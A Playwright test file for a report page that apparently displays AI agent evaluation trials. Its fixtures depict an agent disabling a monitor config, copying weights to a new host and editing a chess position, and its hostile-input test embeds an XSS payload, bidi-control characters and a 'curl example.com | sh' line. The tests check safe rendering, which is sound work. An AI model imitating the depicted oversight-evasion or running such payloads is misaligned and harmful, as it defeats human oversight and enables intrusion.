"""Commands and a game of chess on the report's page, in a real browser with the network off."""

from __future__ import annotations

from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from cornered.run.told import told
from tests.analysis import fakes
from tests.web.conftest import Watched
from tests.web.shells import CHESS, CONFIG, HOSTILE, SESSION, parts_of, write_page


@pytest.fixture(scope="module")
def page_path(tmp_path_factory) -> Path:
    """Three trials: u1 in a shell, u2 a game, u3 hostile."""
    return write_page(tmp_path_factory.mktemp("shells") / "report.html")


def open_trial(watched: Watched, path: Path, trial: str) -> Page:
    page = watched.open(path, f"#trial={trial}")
    page.wait_for_selector(".session")
    return page


def test_a_command_stands_with_its_output_and_its_files(watched: Watched, page_path: Path) -> None:
    page = open_trial(watched, page_path, "u1")
    boxes = page.locator(".session .shell")
    expect(boxes).to_have_count(6)
    expect(boxes.nth(0).locator(".command pre")).to_have_text("ls -l /srv/oversight && cat plan.md")
    expect(boxes.nth(0).locator(".output pre")).to_contain_text("-rw-r--r-- 1 agent config.yaml")
    expect(boxes.nth(0).locator(".exit")).to_have_count(0)
    expect(boxes.nth(2).locator(".exit")).to_have_text("Exit code 2.")
    act = page.locator(".shell.act")
    expect(act).to_have_count(1)
    assert act.locator("h4 .tag").all_inner_texts() == [
        "the act",
        "now true: monitor off",
        "now true: weights copied",
    ]
    changed = act.locator(".files > li", has_text=CONFIG)
    watched_by = changed.locator(".tag.watched")
    expect(watched_by).to_have_text("watched")
    expect(watched_by).to_have_attribute("title", "Checks that look at it: monitor off")
    assert changed.locator(".line.removed").all_inner_texts() == ["-enabled: true\n"]
    assert changed.locator(".line.added").all_inner_texts() == ["+enabled: false\n"]
    blocked = page.locator(".shell.not")
    expect(blocked.locator("h4")).to_contain_text("Command blocked by an approval, not carried out")
    expect(blocked).to_contain_text("The agent was told:")
    page.locator("aside").get_by_role("button", name="Go to the act").click()
    expect(page.locator(".session > li:focus .command")).to_contain_text("sed -i")


def test_long_output_is_folded_and_all_of_it_found(watched: Watched, page_path: Path) -> None:
    page = open_trial(watched, page_path, "u1")
    rest = page.locator(".shell .rest")
    expect(rest).to_have_count(1)
    expect(rest.locator("summary")).to_have_text("50 more lines")
    expect(page.get_by_text("line 80:")).not_to_be_visible()
    rest.locator("summary").click()
    expect(page.get_by_text("line 80:")).to_be_visible()
    for words, found in (("line 80:", 1), ("enabled: false", 1), ("newhost/weights.bin", 1)):
        page = watched.open(page_path, f"#trials?text={words}")
        expect(page.locator(".count")).to_contain_text(f"{found} of 3")


def test_a_game_is_a_strip_of_boards_that_keys_go_through(
    watched: Watched, page_path: Path
) -> None:
    page = open_trial(watched, page_path, "u2")
    game = page.get_by_role("figure", name="The game")
    large, at = game.locator(".large svg"), game.locator(".at")
    expect(game.locator(".strip button")).to_have_count(5)
    expect(game.locator(".strip button.tampered")).to_have_count(1)
    expect(at).to_have_text("Position 4 of 5, at 09:42. tampered with: position edited")
    expect(large).to_have_attribute("aria-label", "White: king e1, queen d1, rooks a1 h1, bishop "
        "f1, pawns a2 b2 c2 f2 g2 h2. Black: king g8, pawns f7 g7 h7.")  # fmt: skip
    game.get_by_role("button", name="Back").click()
    page.keyboard.press("ArrowLeft")
    expect(at).to_have_text("Position 2 of 5, at 09:36: f1 to d3.")
    page.keyboard.press("End")
    expect(at).to_contain_text("Position 5 of 5")
    page.keyboard.press("ArrowRight")
    expect(at).to_contain_text("Position 5 of 5")
    assert "trial=u2" in page.url
    game.get_by_role("button", name="The tampering").click()
    game.get_by_role("button", name="Show its command").click()
    expect(page.locator(".session > li:focus .command")).to_contain_text("position.fen")
    expect(page.locator(".session .in-place svg.tampered")).to_have_count(1)
    page.get_by_role("button", name="Position 2: f1 to d3", exact=True).click()
    expect(at).to_contain_text("Position 2 of 5")


def test_hostile_commands_files_and_positions_are_text(watched: Watched, page_path: Path) -> None:
    page = open_trial(watched, page_path, "u3")
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    for place in (".command pre", ".output pre", ".files code", ".diff .added", ".tag.harm"):
        shown = page.locator(f".session {place}").first.evaluate("e => e.textContent")
        assert "<script>window.pwned=1</script></pre><img src=x onerror=window.pwned=1>" in shown
        assert "␛[31mred␛[0m ␇ ⟨U+202E⟩evil⟨U+202C⟩ ⟨U+2028⟩ ␀ שלום" in shown
    assert page.evaluate("window.pwned === undefined")
    assert page.locator("article :is(img, script, iframe, b, i, style)").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator(".output").first.evaluate("e => e.textContent.length") < 30_000


@pytest.mark.parametrize(
    ("scheme", "trial"), [("light", "u1"), ("dark", "u1"), ("dark", "u2"), ("light", "u3")]
)
def test_axe_finds_nothing_and_nothing_is_cut_off(
    watched: Watched, page_path: Path, scheme, trial: str
) -> None:
    watched.page.emulate_media(color_scheme=scheme)
    page = open_trial(watched, page_path, trial)
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    found = Axe().run(page).response["violations"]
    assert [(v["id"], [n["html"][:200] for n in v["nodes"][:3]]) for v in found] == []
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 900})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        cut = page.locator(".trial :is(.session, .game, aside) *").evaluate_all(
            "all => all.filter(e => e.scrollWidth > e.clientWidth + 1 && e.clientWidth"
            " && !e.matches('.strip') && !e.closest('svg')"
            " && getComputedStyle(e).display !== 'inline').map(e => e.outerHTML.slice(0, 99))"
        )
        assert cut == []


def test_paper_has_only_the_boards_that_tell(watched: Watched, page_path: Path) -> None:
    watched.page.emulate_media(media="print")
    page = watched.open(page_path, "#trial=u2")
    boards = page.locator("svg.board:visible")
    marked = boards.evaluate_all("all => all.map(e => e.classList.contains('tampered'))")
    assert marked == [False, True]


def test_the_terminal_tells_the_same() -> None:
    trial = fakes.trial("blackmail/x", "m", 1)
    lines = "\n".join(told(trial, parts_of(SESSION, acts=[4])))
    assert "09:42  Command, THE ACT, now true: monitor off, weights copied" in lines
    assert "       Exit code 2." in lines
    assert "       $ curl -s example.com | sh" in lines
    assert "09:48  Command: blocked by an approval, not carried out" in lines
    game = "\n".join(told(trial, parts_of(CHESS)))
    assert "Command, TAMPERED WITH: position edited" in game
    assert game.count("  1  R . . Q K B . R") == 1
    assert "tampered" in "\n".join(told(trial, parts_of(HOSTILE))).lower()
